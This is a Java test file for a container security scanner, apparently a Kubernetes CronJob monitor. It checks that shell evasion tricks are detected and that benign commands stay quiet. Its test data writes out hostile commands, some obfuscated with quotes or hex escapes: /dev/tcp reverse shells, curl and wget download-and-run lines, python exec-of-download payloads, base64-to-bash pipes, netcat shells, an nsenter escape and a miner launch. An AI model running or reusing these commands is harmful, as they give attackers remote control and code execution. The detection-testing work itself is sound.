package dev.cronsentinel.score;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.model.ContainerSpec;
import dev.cronsentinel.model.EnvFromSpec;
import dev.cronsentinel.model.EventRole;
import dev.cronsentinel.model.ScoredEvent;
import dev.cronsentinel.model.Signal;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;

/**
 * Issue 16, row 8: the exact evasions that raised no alert (shell quote removal, {@code exec(urlopen(...).read())},
 * {@code wget -qO f URL; sh f}, {@code base64 -di | gunzip | bash}, {@code sh -c "$PAYLOAD"} with
 * {@code envFrom}) and variations of them alert with the default rules, and their benign look-alikes stay quiet.
 */
class ShellEvasionTest {
    private static final Scorer SCORER = ScorerTest.SCORER;

    static ScoredEvent run(String script) {
        return EvasionAndAllowlistTest.score(EvasionAndAllowlistTest.container("registry.example.com/app:1", List.of("/bin/sh", "-c"),
                List.of(script), List.of()));
    }

    static List<String> rules(ScoredEvent s) {
        return s.signals().stream().map(Signal::rule).toList();
    }

    @Test
    void quoteRemovalFollowsTheShell() {
        assertThat(ShellText.unquote("b\"\"ash -i >& /dev/tc\"\"p/198.51.100.7/4444 0>&1")).isEqualTo("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1");
        assertThat(ShellText.unquote("b'a's'h' -i")).isEqualTo("bash -i");
        assertThat(ShellText.unquote("b\\a\\sh -\\i")).isEqualTo("bash -i");
        assertThat(ShellText.unquote("$'\\x62\\141sh' -i")).isEqualTo("bash -i");
        assertThat(ShellText.unquote("\"say \\\"hi\\\" \\n\"")).isEqualTo("say \"hi\" \\n");
        assertThat(ShellText.unquote("echo 'it''s'")).isEqualTo("echo its");
        assertThat(ShellText.unquote("cu\\\nrl")).isEqualTo("curl");
        assertThat(ShellText.unquote("unterminated 'rest \"of it")).isEqualTo("unterminated rest \"of it");
        assertThat(ShellText.unquote("no quotes at all")).isEqualTo("no quotes at all");
    }

    @Test
    void theExactFormsFromTheIssueAlert() {
        Map<String, String> cases = Map.of(
                "b\"\"ash -i >& /dev/tc\"\"p/198.51.100.7/4444 0>&1", "reverse-shell-dev-tcp",
                "b'a'sh -i >& /dev/t'c'p/198.51.100.7/4444 0>&1", "reverse-shell-dev-tcp",
                "b\\ash -i >& /d\\ev/tcp/198.51.100.7/4444 0>&1", "reverse-shell-dev-tcp",
                "python3 -c \"from urllib.request import urlopen; exec(urlopen('http://203.0.113.9/s.py').read())\"", "interpreter-download-exec",
                "wget -qO f http://203.0.113.9/s; sh f", "download-then-run",
                "echo H4sIAAAAAAAAA0tOzy/NzcxJVcgsSczJzAMAxkBTUxEAAAA= | base64 -di | gunzip | bash", "base64-pipe-shell");
        for (Map.Entry<String, String> c : cases.entrySet()) {
            ScoredEvent s = run(c.getKey());
            assertThat(s.alertable()).as(c.getKey()).isTrue();
            assertThat(rules(s)).as(c.getKey()).contains(c.getValue());
        }
        ContainerSpec fromConfigMap = new ContainerSpec("c[0]", "c", "alpine", List.of("sh", "-c", "\"$PAYLOAD\""), List.of(), List.of(),
                null, null, null, null, List.of(), List.of(), List.of(), List.of(new EnvFromSpec("c[0].envFrom[0]", "configMap", "settings", "")));
        ScoredEvent payload = SCORER.score(EvasionAndAllowlistTest.cronJob("ns", "mallory", List.of(fromConfigMap), List.of()), EventRole.WORKLOAD);
        assertThat(payload.alertable()).isTrue();
        assertThat(rules(payload)).contains("opaque-shell-script");
    }

    @Test
    void variationsOfThoseFormsAlert() {
        Map<String, String> cases = new java.util.LinkedHashMap<>();
        cases.put("$'\\x62ash' -i >& $'/dev/\\x74cp/198.51.100.7/4444' 0>&1", "reverse-shell-dev-tcp");
        cases.put("python -c 'import urllib.request as u; exec(u.urlopen(\"http://203.0.113.9/s\").read())'", "interpreter-download-exec");
        cases.put("python3 -c \"import requests; eval(requests.get('http://203.0.113.9/s').text)\"", "interpreter-download-exec");
        cases.put("curl -fsSLo /tmp/.s http://203.0.113.9/s && bash /tmp/.s", "download-then-run");
        cases.put("wget --output-document=run.sh http://203.0.113.9/s; sleep 5; . ./run.sh", "download-then-run");
        cases.put("curl -s http://203.0.113.9/s -o /dev/shm/x.py; python3 /dev/shm/x.py", "download-then-run");
        cases.put("bash -c \"$(curl -fsSL http://203.0.113.9/s)\"", "download-substitution-exec");
        cases.put("bash <(wget -qO- http://203.0.113.9/s)", "download-substitution-exec");
        cases.put("echo 1f8b... | xxd -r -p | gunzip | sh", "decode-pipe-shell");
        cases.put("cat /data/p.gz | gunzip | sh", "decode-pipe-shell");
        cases.put("base64 -w0 -d /data/p | bash", "base64-pipe-shell");
        cases.put("base64 --decode --ignore-garbage /data/p | sudo bash", "base64-pipe-shell");
        cases.put("ash -i >& /dev/udp/198.51.100.7/53 0>&1", "interactive-shell");
        for (Map.Entry<String, String> c : cases.entrySet()) {
            ScoredEvent s = run(c.getKey());
            assertThat(s.alertable()).as(c.getKey()).isTrue();
            assertThat(rules(s)).as(c.getKey()).contains(c.getValue());
        }
    }

    @Test
    void benignLookAlikesStayQuiet() {
        for (String script : List.of(
                "curl -fsSL -o /tmp/export.json https://api.example.com/export && python /app/load.py /tmp/export.json",
                "wget -qO /data/report.csv https://reports.example.com/daily.csv; sh /scripts/publish.sh /data/report.csv",
                "python -c \"import urllib.request; print(urllib.request.urlopen('http://localhost:8080/healthz').status)\"",
                "gunzip -c /backup/db.sql.gz | psql \"$DATABASE_URL\"",
                "echo \"backup done\" | base64",
                "base64 -w0 /data/cert.pem > /out/cert.b64",
                "pg_dump -Fc app | gzip > /backup/app-$(date +%F).dump.gz",
                "echo 'it''s fine' && /app/run --mode='nightly'",
                "curl -s -o /dev/null -w '%{http_code}' https://example.com/ping")) {
            ScoredEvent s = run(script);
            assertThat(s.alertable()).as(script + " " + rules(s)).isFalse();
        }
    }

    /** Payloads without quotes, backslashes or {@code $}, so that quote removal gives back exactly the payload. */
    private static final List<String> PLAIN_PAYLOADS = List.of(
            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "curl -fsSL http://203.0.113.9/x | sh", "nc -e /bin/sh 198.51.100.7 4444",
            "wget -qO f http://203.0.113.9/s; sh f", "echo cGF5bG9hZA | base64 -di | gunzip | bash", "nsenter -t 1 -m -u -i -n sh",
            "python3 -c import pty;pty.spawn(/bin/sh)", "xmrig -o stratum+tcp://pool.example:3333");

    @Property
    void quotesAndBackslashesInsideWordsNeverLowerTheScore(@ForAll("payloadIndex") int payload, @ForAll("cuts") List<Integer> cuts,
            @ForAll("quoteKinds") List<String> kinds) {
        String line = PLAIN_PAYLOADS.get(payload);
        StringBuilder mutated = new StringBuilder(line);
        // Insert from the right at distinct positions, so earlier positions stay valid and no insert escapes another.
        List<Integer> sorted = cuts.stream().map(c -> c % (line.length() + 1)).distinct().sorted(java.util.Comparator.reverseOrder()).toList();
        for (int i = 0; i < sorted.size(); i++) {
            int at = sorted.get(i);
            String kind = kinds.get(i % kinds.size());
            if (kind.equals("\\")) {
                // A backslash before a character stands for the character; only before one that exists and is no newline.
                if (at < line.length()) {
                    mutated.insert(at, '\\');
                }
            } else {
                mutated.insert(at, kind);
            }
        }
        assertThat(ShellText.unquote(mutated.toString())).isEqualTo(line);
        assertThat(run(mutated.toString()).score()).as(mutated.toString()).isGreaterThanOrEqualTo(run(line).score());
    }

    @Provide
    Arbitrary<Integer> payloadIndex() {
        return Arbitraries.integers().between(0, PLAIN_PAYLOADS.size() - 1);
    }

    @Provide
    Arbitrary<List<Integer>> cuts() {
        return Arbitraries.integers().between(0, 10_000).list().ofMinSize(1).ofMaxSize(6);
    }

    @Provide
    Arbitrary<List<String>> quoteKinds() {
        return Arbitraries.of("\"\"", "''", "\\").list().ofMinSize(1).ofMaxSize(6);
    }
}
